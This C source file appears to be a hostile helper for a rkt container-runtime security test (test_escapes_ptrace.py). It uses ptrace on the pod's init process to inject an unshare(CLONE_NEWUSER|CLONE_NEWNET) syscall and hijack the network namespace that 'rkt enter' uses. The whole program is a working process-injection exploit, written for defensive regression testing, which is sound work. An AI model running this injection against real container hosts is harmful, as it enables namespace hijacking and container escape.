/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile app for test_escapes_ptrace.py, run with CAP_SYS_PTRACE: the pod init holds no
 * more than the apps, so the app may trace it. It makes the pod init run
 * unshare(CLONE_NEWUSER | CLONE_NEWNET) (no capability needed: the new user namespace gives
 * them), so that /proc/1/ns/net, where `rkt enter` looks for the pod's network, is a
 * namespace of the app's making. Prints "HIJACKED <ret>" or "FAILED <why>". x86-64 only.
 * Built statically at test time.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

static int fail(const char *what)
{
        printf("FAILED %s: %s\n", what, strerror(errno));
        return 1;
}

int main(void)
{
        struct user_regs_struct saved, regs;
        unsigned long word;
        int status;
        pid_t pid = 1;

        if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
                return fail("seize");
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
                return fail("interrupt");
        if (waitpid(pid, &status, __WALL) < 0)
                return fail("wait");
        if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0)
                return fail("getregs");
        /* stopped in a system call: the instruction before rip is a syscall (0f 05) */
        errno = 0;
        word = (unsigned long)ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
        if (errno || (word & 0xffff) != 0x050f) {
                errno = EINVAL;
                return fail("no syscall instruction");
        }
        regs = saved;
        regs.rax = SYS_unshare;
        regs.orig_rax = (unsigned long)-1;
        regs.rdi = CLONE_NEWUSER | CLONE_NEWNET;
        regs.rip = saved.rip - 2;
        if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0)
                return fail("setregs");
        if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0)
                return fail("singlestep");
        if (waitpid(pid, &status, __WALL) < 0)
                return fail("wait 2");
        if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
                return fail("getregs 2");
        if (ptrace(PTRACE_SETREGS, pid, 0, &saved) < 0)
                return fail("restore");
        if (ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
                return fail("detach");
        if ((long)regs.rax < 0) {
                errno = (int)-(long)regs.rax;
                return fail("unshare in pid 1");
        }
        printf("HIJACKED %ld\n", (long)regs.rax);
        return 0;
}
